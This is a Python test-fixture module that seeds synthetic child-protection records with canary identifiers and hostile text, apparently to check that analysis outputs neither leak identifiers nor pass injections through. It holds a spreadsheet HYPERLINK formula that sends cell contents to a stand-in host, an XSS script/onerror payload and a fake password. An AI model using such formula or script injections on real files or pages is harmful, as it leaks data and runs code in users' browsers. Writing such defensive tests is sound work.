"""An extract whose identifiers are recognised wherever they turn up; its texts are hostile.

It is a sample of synthetic records, and says so.
"""

from pathlib import Path

import polars as pl

from cpanalysis.declare.tables import TABLES
from cpanalysis.declare.tables.table import Column
from cpanalysis.sample import make_sample

CHILD = "Cca9a7e5c"
"""How the hash of every child begins; it stays a hash of the form that is asked for."""
ROW = "xCANARYx"
"""What stands in every other identifier: of episodes, investigations, detentions, officers."""
PLACE = "E01CANARY"
"""Small area of residence, which is never in an output."""
FORMULA = '=HYPERLINK("http://canary.invalid/?"&A1,"see")'
MARKUP = "<script>alert(1)</script><img src=x onerror=alert(2)>"
SECRET = "s3cr3t-CANARY-password"  # noqa: S105 (nobody's)
OUTPUT = "risk_policy_version"
"""The one free text of the records that is shown: what a change of grading is split by."""


def write_canaries(folder: Path) -> Path:
    """Write two years of records as CSV files, and return their folder."""
    make_sample(folder, months=24, scale=0.25, seed=2)
    for name in TABLES:
        path = folder / f"{name}.parquet"
        pl.read_parquet(path).with_columns(mark(name)).write_parquet(path)
    (folder / "truth.json").unlink()
    return folder


def mark(table: str) -> list[pl.Expr]:
    """Return the columns of a table that carry a mark."""
    marked = {column.name: mark_column(column) for column in TABLES[table].columns}
    return [made.alias(name) for name, made in marked.items() if made is not None]


def mark_column(column: Column) -> pl.Expr | None:
    """Return a column with its mark; nothing where it holds neither identifier nor free text."""
    held = pl.col(column.name)
    if column.pattern:
        return CHILD + held.str.slice(len(CHILD))
    if column.name == "home_lsoa":
        return pl.when(held.is_not_null()).then(pl.lit(PLACE))
    if column.name == OUTPUT:
        return pl.when(held == held.first()).then(pl.lit(FORMULA)).otherwise(pl.lit(MARKUP))
    if column.dtype == pl.String and column.name.endswith("_id"):
        return held + ROW
    return None
